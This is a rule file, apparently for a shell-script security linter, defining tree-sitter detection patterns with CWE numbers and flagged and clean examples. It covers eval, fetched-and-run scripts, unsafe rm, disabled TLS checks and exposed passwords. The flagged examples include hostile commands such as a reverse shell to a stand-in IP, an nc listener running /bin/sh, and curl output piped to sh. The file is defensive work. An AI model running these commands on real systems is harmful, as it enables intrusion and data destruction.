;; Podium's own rules for shell scripts; lsp_server/tools/audit/rules.py explains the form, predicates.py the predicates.
;; Of a command the last argument that holds variables counts as its arguments; the names of commands stand behind
;; a dot, since the grammar has a command's first argument where others have the object.

; words: literal = string_content raw_string ansi_c_string word number comment special_variable_name heredoc_start heredoc_end
; words: text = string raw_string word number
; words: composed = concatenation simple_expansion expansion command_substitution arithmetic_expansion translated_string array
; words: name = variable_name
; words: call = command
; words: arguments = string concatenation simple_expansion expansion
; words: text-methods = echo printf
; words: carriers = echo printf cat cut sed awk head tail tr base64 urldecode jq xargs
; words: formatters = printf
; words: cleaners = wc basename test md5sum sha1sum sha256sum sha512sum cksum date stat id mktemp expr hostname uname
; words: blocks = program compound_statement do_group subshell if_statement case_item else_clause elif_clause
; words: loops = for_statement while_statement c_style_for_statement
; words: cgi = QUERY_STRING REQUEST_URI PATH_INFO PATH_TRANSLATED HTTP_COOKIE HTTP_REFERER HTTP_USER_AGENT HTTP_HOST HTTP_X_FORWARDED_FOR HTTP_ACCEPT_LANGUAGE SSH_ORIGINAL_COMMAND

; rule: sh-eval-words
; severity: warning
; confidence: medium
; cwe: 95
; needs: eval
; at: (?<![\w-])eval\s
; message: eval reads its arguments a second time and runs what is in them
; help: Write "$@" without eval; then the arguments stay what they are.
; rewrite: "$@"
; rewrite-safe: no
; tests: no
; found: run() { eval "$@"; }
; found: eval $*
; found: eval $@
; clean: run() { "$@"; }
; clean: eval "$(ssh-agent -s)"
; clean: eval set -- "$options"
((command name: (command_name) @command . argument: [
    (simple_expansion (special_variable_name) @all)
    (string . (simple_expansion (special_variable_name) @all) .)
  ] .) @finding
  (#eq? @command "eval") (#any-of? @all "@" "*"))

; rule: sh-eval-built
; severity: warning
; confidence: low
; cwe: 95
; needs: eval
; at: (?<![\w-])eval\s
; message: eval runs {code}, whatever is in it
; help: Use an array for arguments, a nameref (declare -n) or ${!name} for names, and case for choices.
; tests: no
; found: eval "$1"
; found: eval "$name=$value"
; clean: eval "$(ssh-agent -s)"
; clean: eval 'x=1'
((command name: (command_name) @command argument: [
    (simple_expansion (variable_name)) @code
    (string [(simple_expansion (variable_name)) (expansion)]) @code
    (concatenation [(simple_expansion (variable_name)) (expansion)]) @code
  ]) @finding (#eq? @command "eval"))

; rule: sh-fetched-run
; severity: warning
; confidence: high
; cwe: 494
; needs: curl wget fetch
; message: {finding} runs whatever the server sends
; help: Save the file, compare its checksum or signature, then run it.
; tests: no
; found: curl -fsSL https://example.invalid/install.sh | sh
; found: wget -qO- "$URL" | sudo bash -s -- -y
; found: bash <(curl -s https://example.invalid/install.sh)
; found: sh -c "$(curl -fsSL https://example.invalid/install.sh)"
; found: eval "$(wget -qO- https://example.invalid/env)"
; clean: curl -fsSL https://example.invalid/list | sort
; clean: curl -o install.sh https://example.invalid/install.sh
; clean: wget -qO- https://example.invalid/key | gpg --dearmor
; clean: curl -s https://example.invalid/data | python3 -c 'import json, sys; print(json.load(sys.stdin))'
; clean: curl -s https://example.invalid/data | python3 -m json.tool
((pipeline (command name: (command_name) @fetch) (command name: (command_name) @shell) @run .) @finding
  (#any-of? @fetch "curl" "wget") (#match? @shell "^(/usr)?(/bin/)?(sh|bash|zsh|dash|ksh|python3?|perl|ruby|node|php)$") (#not-match? @run "\\s(-c|-m|-e|-n\\w*|-p\\w*)(\\s|['\"]|$)|\\.\\w+$"))
((pipeline (command name: (command_name) @fetch) (command name: (command_name) @sudo) @run .) @finding
  (#any-of? @fetch "curl" "wget") (#eq? @sudo "sudo") (#match? @run "^sudo\\s+(-\\w+\\s+)*(/bin/)?(sh|bash|zsh|dash|python3?)(\\s+-\\w*\\s*--?.*|\\s+-s?)?$"))
((command name: (command_name) @shell argument: (process_substitution (command name: (command_name) @fetch))) @finding
  (#any-of? @fetch "curl" "wget") (#any-of? @shell "sh" "bash" "zsh" "source" "."))
((command name: (command_name) @shell argument: (word) @flag . argument: (string . (command_substitution . (command name: (command_name) @fetch) .))) @finding
  (#any-of? @fetch "curl" "wget") (#any-of? @shell "sh" "bash" "zsh" "dash" "sudo") (#eq? @flag "-c"))
((command name: (command_name) @shell . argument: [
    (string . (command_substitution . (command name: (command_name) @fetch) .))
    (command_substitution . (command name: (command_name) @fetch) .)]) @finding
  (#any-of? @fetch "curl" "wget") (#eq? @shell "eval"))

; rule: sh-remove-unquoted
; severity: warning
; confidence: medium
; cwe: 88
; needs: rm
; at: (?<![\w-])rm\s+(?:-\w+\s+)*[^\n;]{0,200}?\$
; message: a blank or a star in {path} makes rm -r take other files too
; help: Put it in quotes, and write -- in front.
; found: rm -rf $DIR
; found: rm -r -f $1/cache
; found: rm -Rf ${build_dir}
; clean: rm -rf "$DIR"
; clean: rm -rf -- "${DIR:?}/cache"
; clean: rm -f $FILES
; clean: DIR=build\nrm -rf $DIR
; clean: rm -rf /tmp/work.$$
; clean: base=$(mktemp -d /tmp/x.XXXXXX)\nrm -rf $base
((command name: (command_name) @command argument: (word) @flag argument: [
    (simple_expansion (variable_name) @name) @path
    (expansion . (variable_name) @name .) @path
    (concatenation . [(simple_expansion (variable_name) @name) (expansion . (variable_name) @name .)]) @path
  ]) @finding
  (#eq? @command "rm") (#match? @flag "^-\\w*[rR]\\w*$|^--recursive$") (#not-mentions? @name "mktemp") (#not-says? @name "^(\"[^$\"]|'|[^\"'$])"))

; rule: sh-remove-root
; severity: error
; confidence: high
; cwe: 73
; needs: rm
; at: (?<![\w-])rm\s+(?:-\w+\s+)*[^\n;]{0,200}?\$
; message: if {name} is empty this removes everything below /
; help: Write "${name:?}"/ , which stops the script when the variable is empty.
; found: rm -rf "$1"/*
; found: rm -rf "$PREFIX/"
; found: rm -rf $root/*
; found: rm -rf "${root}/"*
; clean: rm -rf "${DIR:?}"/*
; clean: rm -rf "$DIR/cache"
; clean: rm -rf "$DIR"
; clean: dir=/var/lib/x\nrm -rf "$dir"/*
; clean: work=$(mktemp -d)\nrm -rf "$work"/*
((command name: (command_name) @command argument: (word) @flag argument: [
    (concatenation . (string . [(simple_expansion (variable_name) @name) (expansion . (variable_name) @name .)] .) . (word) @rest .)
    (concatenation . (string . [(simple_expansion (variable_name) @name) (expansion . (variable_name) @name .)] . (string_content) @rest .) . (word) @star .)
    (concatenation . [(simple_expansion (variable_name) @name) (expansion . (variable_name) @name .)] . (word) @rest .)
    (string . [(simple_expansion (variable_name) @name) (expansion . (variable_name) @name .)] . (string_content) @rest .)
  ]) @finding
  (#eq? @command "rm") (#match? @flag "^-\\w*[rR]\\w*$|^--recursive$") (#any-of? @rest "/" "/*" "/.*" "/*.*") (#not-match? @name "(?i)te?mp") (#not-match? @finding ":[?]") (#not-mentions? @name "mktemp") (#not-says? @name "^(\"[^$\"]|'|[^\"'$])"))

; rule: sh-world-writable
; severity: warning
; confidence: high
; cwe: 732
; needs: chmod install mkdir
; message: {mode} lets everyone write
; help: Give write permission to the owner or a group: chmod 755, 750 or u+w.
; tests: no
; found: chmod 777 /srv/data
; found: chmod -R 0777 "$dir"
; found: chmod a+rwx script.sh
; found: chmod o+w file
; found: mkdir -m 777 shared
; found: install -m 0666 a b
; clean: chmod 755 script.sh
; clean: chmod 1777 /tmp/shared
; clean: chmod u+rwx,go-w file
; clean: chmod a+rx file
; clean: mkdir -m 700 private
((command name: (command_name) @command argument: [(word) (number)] @mode) @finding
  (#eq? @command "chmod") (#match? @mode "^(0?[0-7][0-7][2367]|([ugo]*[oa]|\\+|[ugo]*[oa][ugo]*)\\+[rxXst]*w[rwxXst]*|[oa]=[rx]*w[rwx]*|\\+rwx)$"))
((command name: (command_name) @command argument: (word) @flag . argument: [(word) (number)] @mode) @finding
  (#any-of? @command "mkdir" "install") (#match? @flag "^(-\\w*m|--mode)$") (#match? @mode "^0?[0-7][0-7][2367]$"))

; rule: sh-umask-open
; severity: warning
; confidence: high
; cwe: 732
; needs: umask
; message: new files may be written by everyone
; help: Use umask 077 or 027, or set the mode of the one file that others must write.
; rewrite: 077
; rewrite-safe: no
; tests: no
; found: umask 0
; found: umask 000
; clean: umask 077
; clean: umask 022
; clean: umask
((command name: (command_name) @command . argument: [(number) (word)] @rewrite .) @finding
  (#eq? @command "umask") (#match? @rewrite "^0{1,4}$"))

; rule: sh-name-only-temp
; severity: warning
; confidence: high
; cwe: 377
; needs: mktemp tempnam
; message: mktemp -u makes a name only: others can take it before this script does
; help: Use mktemp or mktemp -d, which make the file or folder too.
; found: name=$(mktemp -u)
; found: mkfifo "$(mktemp -u /tmp/fifo.XXXXXX)"
; found: mktemp --dry-run
; clean: name=$(mktemp)
; clean: dir=$(mktemp -d)
; clean: dir=$(mktemp -d -t build-u.XXXX)
; clean: name=$(mktemp -u "$PRIVATE/XXXXXX")
((command name: (command_name) @command argument: (word) @flag) @finding
  (#eq? @command "mktemp") (#match? @flag "^(-[dqt]*u[dqt]*|--dry-run)$") (#not-match? @finding "[$]"))

; rule: sh-shared-temp-file
; severity: warning
; confidence: medium
; cwe: 377
; needs: tmp
; at: /(?:var/)?tmp/
; message: others can put a file or a link at {path} first
; help: Use file=$(mktemp), and remove it in a trap.
; tests: no
; found: echo "$data" > /tmp/report.txt
; found: sort list >"/tmp/sorted.$$"
; found: curl -o /tmp/install.sh https://example.invalid/install.sh
; found: cat list | tee /tmp/list.txt
; clean: echo "$data" > "$(mktemp)"
; clean: cat < /tmp/report.txt
; clean: tmp=$(mktemp /tmp/report.XXXXXX)
; clean: echo x > /tmp/$name/file
; clean: echo x > "$TMPDIR/file"
((file_redirect [">" ">>" "&>" ">|"] destination: [
    (word) @path
    (string . (string_content) @path)
    (concatenation . (word) @path)
  ]) @finding (#match? @path "^/(var/)?tmp/[\\w.-]+$"))
((command name: (command_name) @command argument: (word) @flag . argument: (word) @path) @finding
  (#any-of? @command "curl" "wget" "gcc" "cc") (#match? @flag "^(-\\w*[oO]|--output|--output-document)$") (#match? @path "^/(var/)?tmp/[\\w.-]+$"))
((command name: (command_name) @command argument: (word) @path .) @finding
  (#eq? @command "tee") (#match? @path "^/(var/)?tmp/[\\w.-]+$"))

; rule: sh-tls-unchecked
; severity: warning
; confidence: high
; cwe: 295
; needs: curl wget git NODE_TLS_REJECT_UNAUTHORIZED GIT_SSL_NO_VERIFY PYTHONHTTPSVERIFY npm pip
; at: (?<![\w-])(?:curl|wget|git|npm|pip3?|NODE_TLS_REJECT_UNAUTHORIZED|GIT_SSL_NO_VERIFY|PYTHONHTTPSVERIFY)\b
; message: {finding} lets anyone pose as the server
; help: Leave the check on, and add a private authority with --cacert or --ca-certificate.
; tests: no
; found: curl -k https://example.invalid/
; found: curl -sSLk "$url"
; found: wget --no-check-certificate https://example.invalid/a.tgz
; found: git -c http.sslVerify=false clone "$url"
; found: export NODE_TLS_REJECT_UNAUTHORIZED=0
; found: git config --global http.sslVerify false
; clean: curl -fsSL https://example.invalid/
; clean: curl -k https://localhost:8443/health
; clean: curl -K config
; clean: wget --ca-certificate=ca.pem https://example.invalid/
((command name: (command_name) @command argument: (word) @flag) @finding
  (#eq? @command "curl") (#match? @flag "^(-[a-zA-Z]*k[a-zA-Z]*|--insecure|--proxy-insecure)$") (#not-match? @flag "^-[a-zA-Z]*[oudHXAbeFTmwxECKtyYzrPQ][a-zA-Z]*k") (#not-match? @finding "localhost|127\\.0\\.0\\.1|::1"))
((command name: (command_name) @command argument: (word) @flag) @finding
  (#eq? @command "wget") (#eq? @flag "--no-check-certificate") (#not-match? @finding "localhost|127\\.0\\.0\\.1|::1"))
((command name: (command_name) @command argument: (word) @flag) @finding
  (#eq? @command "git") (#match? @flag "(?i)^http\\.sslVerify=(false|0)$"))
((command name: (command_name) @command argument: (word) @flag . argument: (word) @value) @finding
  (#eq? @command "git") (#match? @flag "(?i)^http\\.sslVerify$") (#any-of? @value "false" "0"))
((command name: (command_name) @command argument: (word) @flag . argument: (word) @value) @finding
  (#any-of? @command "npm" "yarn") (#eq? @flag "strict-ssl") (#eq? @value "false"))
((variable_assignment name: (variable_name) @name value: (_) @value) @finding
  (#any-of? @name "NODE_TLS_REJECT_UNAUTHORIZED" "PYTHONHTTPSVERIFY") (#match? @value "^[\"']?0[\"']?$"))
((variable_assignment name: (variable_name) @name value: (_) @value) @finding
  (#eq? @name "GIT_SSL_NO_VERIFY") (#match? @value "^[\"']?(1|true)[\"']?$"))

; rule: sh-ssh-unchecked
; severity: warning
; confidence: high
; cwe: 322
; needs: StrictHostKeyChecking
; at: StrictHostKeyChecking
; message: ssh no longer asks whether this is the right host
; help: Put the host's key into known_hosts, or use StrictHostKeyChecking=accept-new.
; rewrite: StrictHostKeyChecking=accept-new
; rewrite-safe: no
; tests: no
; found: ssh -o StrictHostKeyChecking=no "$host" uptime
; found: scp -o "StrictHostKeyChecking no" a "$host:"
; found: SSH="ssh -o StrictHostKeyChecking=no"
; clean: ssh -o StrictHostKeyChecking=accept-new "$host"
; clean: ssh -o StrictHostKeyChecking=yes "$host"
((command argument: (word) @finding @rewrite) (#match? @finding "(?i)^StrictHostKeyChecking=(no|off)$"))
((command argument: (word) @finding) (#match? @finding "(?i)^-oStrictHostKeyChecking=(no|off)$"))
((string (string_content) @text) @finding (#match? @text "(?i)(^|-o ?)StrictHostKeyChecking[= ](no|off)\\b"))

; rule: sh-password-argument
; severity: warning
; confidence: medium
; cwe: 214
; needs: mysql mysqldump mysqladmin sshpass curl wget openssl htpasswd useradd usermod smbclient ldapsearch ldapadd ldapmodify kinit docker zip 7z gpg svn
; message: all who are on this machine can read {secret} in the list of processes
; help: Give it in a file, an environment variable or on standard input.
; tests: no
; found: mysql -u root -p"$PASSWORD" app
; found: mysqldump --password=$DB_PASS app
; found: sshpass -p "$SSH_PASSWORD" ssh host
; found: wget --password="$PASS" ftp://example.invalid/
; found: htpasswd -bc file user "$PASSWORD"
; found: docker login -u me -p "$TOKEN" registry.invalid
; clean: mysql --defaults-extra-file="$file" app
; clean: mysql -u root -p app
; clean: sshpass -e ssh host
; clean: echo "$TOKEN" | docker login -u me --password-stdin registry.invalid
; clean: mysqldump --password app
((command name: (command_name) @command argument: (concatenation . (word) @flag . [(string) (simple_expansion) (expansion)] .) @secret) @finding
  (#any-of? @command "mysql" "mysqldump" "mysqladmin" "mariadb") (#match? @flag "^(-p|--password=)$"))
((command name: (command_name) @command argument: (word) @flag . argument: [(string [(simple_expansion) (expansion)]) (simple_expansion) (expansion)] @secret) @finding
  (#any-of? @command "sshpass" "docker" "podman" "zip" "smbclient") (#any-of? @flag "-p" "--password" "-P") (#match? @secret "(?i)pass|pwd|token|secret"))
((command name: (command_name) @command argument: (concatenation . (word) @flag . [(string) (simple_expansion) (expansion)] .) @secret) @finding
  (#any-of? @command "wget" "curl" "svn" "docker" "gpg") (#match? @flag "^--(http-|ftp-|proxy-)?(password|passphrase)=$"))
((command name: (command_name) @command . argument: (word) @flag argument: [(string [(simple_expansion) (expansion)]) (simple_expansion) (expansion)] @secret .) @finding
  (#eq? @command "htpasswd") (#match? @flag "^-\\w*b\\w*$"))
((command name: (command_name) @command argument: (word) @flag . argument: [(string [(simple_expansion) (expansion)]) (simple_expansion) (expansion)] @secret) @finding
  (#any-of? @command "ldapsearch" "ldapadd" "ldapmodify" "ldapdelete") (#eq? @flag "-w"))

; rule: sh-password-in-text
; severity: warning
; confidence: high
; cwe: 798
; needs: curl wget mysql sshpass openssl
; message: the password in {secret} can be read by everyone who has this script
; help: Read it from the environment, a file with mode 600 (.netrc, .my.cnf) or a secret store.
; tests: no
; found: curl -u admin:hunter2 https://example.invalid/
; found: openssl enc -aes-256-cbc -pass pass:topsecret -in a
; found: sshpass -p hunter2 ssh host
; clean: curl -u "$USER:$PASS" https://example.invalid/
; clean: curl -u admin https://example.invalid/
; clean: openssl enc -aes-256-cbc -pass file:key -in a
; clean: curl -u user:pass https://localhost/
((command name: (command_name) @command argument: (word) @flag . argument: [(word) (string . (string_content) .) (raw_string)] @secret) @finding
  (#eq? @command "curl") (#any-of? @flag "-u" "--user") (#match? @secret "^[\"']?[\\w.@-]+:[^$\\s<>\\[\\]{}]{3,}$") (#not-match? @finding "localhost|127\\.0\\.0\\.1|\\.invalid:") (#not-match? @secret "(?i):(pass(word|wd)?|xxx+|\\*+|token|secret|your\\w*|changeme)[\"']?$"))
((command name: (command_name) @command argument: (word) @secret) @finding
  (#eq? @command "openssl") (#match? @secret "^pass:[^$]{3,}$"))
((command name: (command_name) @command . argument: (word) @flag . argument: [(word) (raw_string)] @secret) @finding
  (#eq? @command "sshpass") (#eq? @flag "-p") (#not-match? @secret "^-"))

; rule: sh-path-here
; severity: error
; confidence: high
; cwe: 426
; needs: PATH
; at: \bPATH\s*\+?=
; message: programs are taken out of the folder that the script happens to run in
; help: Name the folder with its whole path, or leave it out.
; tests: no
; found: PATH=.:$PATH
; found: export PATH="$PATH:."
; found: PATH="$PATH::/opt/bin"
; clean: export PATH="$HOME/bin:$PATH"
; clean: PATH=./node_modules/.bin:$PATH
; clean: PATH="$PATH:/opt/tool/bin"
((variable_assignment name: (variable_name) @name value: (_) @value) @finding
  (#eq? @name "PATH") (#match? @value "^[\"']?\\.:|:\\.[\"']?$|:\\.:|\\w::[/$\\w]|\\$PATH::"))

; rule: sh-find-shell
; severity: warning
; confidence: high
; cwe: 78
; needs: find xargs parallel
; message: the name of a file becomes part of the text that {shell} runs
; help: Hand it over as an argument: sh -c 'work "$1"' sh {}.
; tests: no
; found: find . -name '*.c' -exec sh -c 'indent {}' \\;
; found: ls | xargs -I{} sh -c 'wc -l {}'
; found: find . -exec bash -c "cp {} $target" \\;
; clean: find . -name '*.c' -exec sh -c 'indent "$1"' sh {} \\;
; clean: find . -exec wc -l {} +
; clean: xargs -I{} wc -l {}
((command name: (command_name) @command argument: (word) @shell . argument: (word) @flag . argument: [(raw_string) (string)] @script) @finding
  (#any-of? @command "find" "xargs" "parallel" "fd") (#match? @shell "^(/usr)?(/bin/)?(sh|bash|zsh|dash|ksh)$") (#match? @flag "^-\\w*c$") (#match? @script "[{][}]"))

; rule: sh-weak-random
; severity: warning
; confidence: high
; cwe: 338
; needs: RANDOM $RANDOM
; message: {name} can be guessed: RANDOM has 32768 values
; help: Use openssl rand -hex 32, or head -c 32 /dev/urandom | base64.
; tests: no
; found: token=$RANDOM
; found: PASSWORD="$RANDOM$RANDOM"
; found: session_key=$(echo $RANDOM | md5sum)
; clean: port=$((RANDOM % 1000))
; clean: token=$(openssl rand -hex 32)
; clean: name=job.$RANDOM
((variable_assignment name: (variable_name) @name value: (_) @value) @finding
  (#match? @name "(?i)^(\\w*_)?(token|secret|password|passwd|pass|salt|nonce|otp|session_id|session_key|api_key|secret_key|private_key|csrf)$")
  (#match? @value "\\bRANDOM\\b"))

; rule: sh-password-hash
; severity: error
; confidence: high
; cwe: 916
; needs: md5sum sha1sum sha256sum sha512sum md5
; message: {hash} of a password is found by trying
; help: Use mkpasswd -m yescrypt, htpasswd -B or argon2, which are made for passwords.
; tests: no
; found: echo -n "$PASSWORD" | md5sum
; found: hash=$(printf '%s' "$user_password" | sha256sum | cut -d' ' -f1)
; clean: md5sum file
; clean: echo "$PASSWORD" | argon2 "$salt"
; clean: printf '%s' "$data" | sha256sum
((pipeline (command name: (command_name) @echo argument: [
      (simple_expansion (variable_name) @secret)
      (string . [(simple_expansion (variable_name) @secret) (expansion . (variable_name) @secret)] .)
    ]) . (command name: (command_name) @hash)) @finding
  (#any-of? @echo "echo" "printf") (#match? @secret "(?i)^(\\w*_)?(password|passwd|passphrase|pass|pwd)$")
  (#any-of? @hash "md5sum" "sha1sum" "sha256sum" "sha512sum" "md5"))

; rule: sh-weak-crypto
; severity: warning
; confidence: high
; cwe: 327
; needs: openssl ssh-keygen keygen
; at: (?<![\w-])(?:openssl|ssh-keygen)\s
; message: {weak} is too weak
; help: Use -aes-256-ctr with -pbkdf2, keys of 3072 bits or more, and ed25519.
; tests: no
; found: openssl enc -des3 -in a -out b
; found: openssl enc -aes-128-ecb -in a
; found: openssl genrsa -out key.pem 1024
; found: ssh-keygen -t dsa -f key
; found: openssl req -x509 -newkey rsa:1024 -keyout k
; clean: openssl enc -aes-256-ctr -pbkdf2 -in a
; clean: openssl genrsa -out key.pem 4096
; clean: ssh-keygen -t ed25519 -f key
; clean: openssl dgst -md5 file
((command name: (command_name) @command argument: (word) @sub argument: (word) @weak) @finding
  (#eq? @command "openssl") (#eq? @sub "enc") (#match? @weak "^-(des\\w*|des-[\\w-]+|rc2\\w*|rc4\\w*|bf\\w*|aes-?\\d*-ecb|cast\\w*|seed\\w*)$"))
((command name: (command_name) @command argument: (word) @sub argument: (number) @weak .) @finding
  (#eq? @command "openssl") (#any-of? @sub "genrsa" "gendsa" "dsaparam" "dhparam") (#any-of? @weak "512" "768" "1024"))
((command name: (command_name) @command argument: (word) @weak) @finding
  (#eq? @command "openssl") (#match? @weak "^rsa:(512|768|1024)$"))
((command name: (command_name) @command argument: (word) @flag . argument: (word) @weak) @finding
  (#eq? @command "ssh-keygen") (#eq? @flag "-t") (#any-of? @weak "dsa" "rsa1"))

; rule: sh-packages-unchecked
; severity: warning
; confidence: high
; cwe: 347
; needs: apt get yum dnf rpm zypper apk pip pip3 gem pacman
; at: (?<![\w-])(?:apt|apt-get|yum|dnf|rpm|zypper|apk|pip3?|pacman)\s
; message: with {flag} nobody checks who made the packages
; help: Leave the check on, and add the repository's key.
; tests: no
; found: apt-get install -y --allow-unauthenticated tool
; found: yum install --nogpgcheck -y tool
; found: apk add --allow-untrusted tool.apk
; found: apt-get -y --force-yes install tool
; clean: apt-get install -y tool
; clean: yum install -y tool
; clean: pip install --trusted-host-file tool
((command name: (command_name) @command argument: (word) @flag) @finding
  (#match? @command "^(apt|apt-get|yum|dnf|rpm|zypper|apk)$")
  (#any-of? @flag "--allow-unauthenticated" "--force-yes" "--nogpgcheck" "--no-gpg-check" "--no-gpg-checks" "--nosignature" "--allow-untrusted" "--allow-insecure-repositories"))
((command name: (command_name) @sudo . argument: (word) @command argument: (word) @flag) @finding
  (#eq? @sudo "sudo") (#match? @command "^(apt|apt-get|yum|dnf|rpm|zypper|apk)$")
  (#any-of? @flag "--allow-unauthenticated" "--force-yes" "--nogpgcheck" "--no-gpg-check" "--no-gpg-checks" "--nosignature" "--allow-untrusted" "--allow-insecure-repositories"))

; rule: sh-key-in-clear
; severity: error
; confidence: high
; cwe: 319
; needs: apt rpm gpg
; at: http://
; message: the key comes over an open line: anyone on the way can put in another
; help: Fetch it with https, and compare its fingerprint.
; tests: no
; found: curl -s http://example.invalid/key.asc | apt-key add -
; found: wget -qO- http://example.invalid/key.gpg | sudo gpg --dearmor -o /usr/share/keyrings/a.gpg
; found: rpm --import http://example.invalid/key
; clean: curl -s https://example.invalid/key.asc | apt-key add -
; clean: curl -s http://example.invalid/list | sort
((pipeline (command name: (command_name) @fetch argument: [(word) (string) (raw_string)] @url) (command name: (command_name) @command) @add .) @finding
  (#any-of? @fetch "curl" "wget") (#match? @url "^[\"']?http://") (#match? @add "^(sudo\\s+)?(apt-key\\s+add|gpg\\s+(.*\\s)?--(dearmor|import))"))
((command name: (command_name) @command argument: (word) @import . argument: [(word) (string)] @url) @finding
  (#eq? @command "rpm") (#eq? @import "--import") (#match? @url "^\"?http://"))

; rule: sh-sql-built
; severity: warning
; confidence: medium
; cwe: 89
; needs: mysql psql sqlite3 mariadb
; message: the SQL of {command} is put together from text
; help: Hand the value over: psql -v name="$x" with :'name', sqlite3 with .parameter, or a query of a program.
; tests: no
; found: mysql app -e "SELECT * FROM users WHERE name = '$1'"
; found: psql -c "DELETE FROM t WHERE name = '$name'"
; found: sqlite3 app.db "INSERT INTO t VALUES ('$line')"
; clean: mysql app -e "SELECT * FROM users"
; clean: psql -v name="$name" -f query.sql
; clean: psql -c "CREATE DATABASE $DB"
; clean: psql -c "SELECT 1 FROM pg_roles WHERE rolname = '$DB_USER'"
((command name: (command_name) @command argument: (string (string_content) @before . [(simple_expansion (variable_name) @name) (expansion . (variable_name) @name)]) @query) @finding
  (#any-of? @command "mysql" "psql" "sqlite3" "mariadb") (#match? @query "(?i)^\"\\s*(select|insert|update|delete|replace)\\s")
  (#match? @before "'$|\\\\\"$") (#match? @name "^(\\d|[a-z_]+)$"))

; rule: sh-test-unquoted
; severity: error
; confidence: high
; cwe: 571
; needs: if test fi then echo exit return while
; at: \[\s+-n\s+\$|\btest\s+-n\s+\$
; message: without quotes this is always true: nothing after -n counts as a text
; help: Write "{value}".
; rewrite: "{value}"
; rewrite-safe: no
; found: if [ -n $name ]; then echo yes; fi
; found: [ -n ${1} ] && echo yes
; found: test -n $x && echo yes
; clean: if [ -n "$name" ]; then echo yes; fi
; clean: if [[ -n $name ]]; then echo yes; fi
; clean: [ -n "${1:-}" ] && echo yes
((test_command "[" . (unary_expression operator: (test_operator) @operator [(simple_expansion (variable_name)) (expansion)] @value @rewrite)) @finding
  (#eq? @operator "-n"))
((command name: (command_name) @command . argument: (word) @operator . argument: [(simple_expansion (variable_name)) (expansion)] @value @rewrite .) @finding
  (#eq? @command "test") (#eq? @operator "-n"))

; rule: sh-shell-to-net
; severity: error
; confidence: high
; cwe: 78
; needs: nc ncat netcat socat tcp
; message: this gives a shell to whoever is at the other end
; help: Take it out; use ssh to work on another machine.
; found: nc -l -p 4444 -e /bin/sh
; found: bash -i >& /dev/tcp/10.0.0.1/4444 0>&1
; clean: nc -z host 22
; clean: echo hi > /dev/tcp/host/80
((command name: (command_name) @command argument: (word) @flag . argument: (word) @shell) @finding
  (#any-of? @command "nc" "ncat" "netcat") (#match? @flag "^-\\w*[ec]$|^--exec$") (#match? @shell "^(/usr)?(/bin/)?(ba|da|z|k)?sh$|cmd\\.exe$"))
((redirected_statement body: (command name: (command_name) @shell argument: (word) @flag) redirect: (file_redirect destination: (word) @net)) @finding
  (#match? @shell "^(/usr)?(/bin/)?(ba|da|z|k)?sh$") (#match? @flag "^-\\w*i") (#match? @net "^/dev/(tcp|udp)/"))

; rule: sh-sudo-words
; severity: warning
; confidence: low
; cwe: 78
; needs: sudo
; message: sudo runs whatever is in {command}
; help: Write the command out, and put its arguments in quotes.
; tests: no
; found: sudo $cmd
; found: sudo sh -c "$1"
; clean: sudo rm -- "$file"
; clean: sudo "$@"
((command name: (command_name) @sudo . argument: (simple_expansion (variable_name)) @command) @finding (#eq? @sudo "sudo"))
((command name: (command_name) @sudo argument: (word) @shell . argument: (word) @flag . argument: (string (simple_expansion (variable_name))) @command) @finding
  (#eq? @sudo "sudo") (#any-of? @shell "sh" "bash") (#eq? @flag "-c"))

; rule: sh-eval-flow
; severity: error
; confidence: medium
; cwe: 95
; needs: eval
; sources: $cgi read nc
; sinks: *.eval(*)
; covers: sh-eval-built
; message: eval runs what comes from {source}
; help: Compare the value with those that are meant in a case, and run the command that fits.
; tests: no
; found: read -r line\neval "$line"
; found: value=$(echo "$QUERY_STRING" | cut -d= -f2)\neval "x=$value"
; clean: read -r line\necho "$line"
; clean: line="ls"\neval "$line"

; rule: sh-command-flow
; severity: error
; confidence: high
; cwe: 78
; needs: QUERY_STRING REQUEST_URI PATH_INFO HTTP_COOKIE HTTP_REFERER HTTP_USER_AGENT HTTP_HOST SSH_ORIGINAL_COMMAND $QUERY_STRING $REQUEST_URI $PATH_INFO $HTTP_COOKIE $HTTP_REFERER $HTTP_USER_AGENT $HTTP_HOST $SSH_ORIGINAL_COMMAND
; sources: $cgi
; sinks: *.sh(*) *.bash(*) *.dash(*) *.zsh(*) *.ksh(*) *.su(*) *.ssh(*) *.sudo(*)
; message: {sink} runs what comes from {source}
; help: Compare the value with those that are meant in a case, and run the command that fits.
; tests: no
; found: cmd="$QUERY_STRING"\nsh -c "$cmd"
; found: ssh backend "deploy $PATH_INFO"
; clean: cmd="$QUERY_STRING"\ncase $cmd in up) sh -c "uptime";; esac
; clean: ssh backend uptime; echo "$QUERY_STRING" >> log

; rule: sh-path-flow
; severity: error
; confidence: high
; cwe: 22
; needs: QUERY_STRING REQUEST_URI PATH_INFO HTTP_COOKIE HTTP_REFERER HTTP_USER_AGENT HTTP_HOST $QUERY_STRING $REQUEST_URI $PATH_INFO $HTTP_COOKIE $HTTP_REFERER $HTTP_USER_AGENT $HTTP_HOST
; sources: $cgi
; sinks: *.cat(*) *.rm(*) *.cp(*) *.mv(*) *.tail(*) *.head(*) *.source(*)
; cleaners: realpath
; message: {source} decides which file {sink} takes
; help: Take basename of it, and compare it with the names that are meant.
; tests: no
; found: file="/srv/data/$PATH_INFO"\ncat "$file"
; found: name=$(echo "$QUERY_STRING" | sed 's/.*name=//')\nrm -f "/srv/data/$name"
; clean: file=$(basename "$PATH_INFO")\ncat "/srv/data/$file"
; clean: cat "/srv/data/index.html"; log="$PATH_INFO"

; rule: sh-html-flow
; severity: error
; confidence: medium
; cwe: 79
; needs: QUERY_STRING REQUEST_URI PATH_INFO HTTP_COOKIE HTTP_REFERER HTTP_USER_AGENT HTTP_HOST $QUERY_STRING $REQUEST_URI $PATH_INFO $HTTP_COOKIE $HTTP_REFERER $HTTP_USER_AGENT $HTTP_HOST
; needs: html Content content
; sources: QUERY_STRING REQUEST_URI PATH_INFO HTTP_COOKIE HTTP_REFERER HTTP_USER_AGENT HTTP_HOST
; sinks: *.echo(*) *.printf(*)
; cleaners: sed html_escape escape
; message: the page repeats {source} as HTML
; help: Replace <, > and & first, for example with sed.
; tests: no
; found: echo "Content-Type: text/html"\necho\necho "<p>You asked for $QUERY_STRING</p>"
; found: echo "Content-Type: text/html"\nq="${QUERY_STRING#q=}"\nprintf '<b>%s</b>' "$q"
; clean: echo "Content-Type: text/html"\nq=$(html_escape "$QUERY_STRING")\necho "<p>$q</p>"
; clean: echo "Content-Type: text/html"\nq="$QUERY_STRING"\necho "<p>done</p>"

; rule: sh-fetch-flow
; severity: error
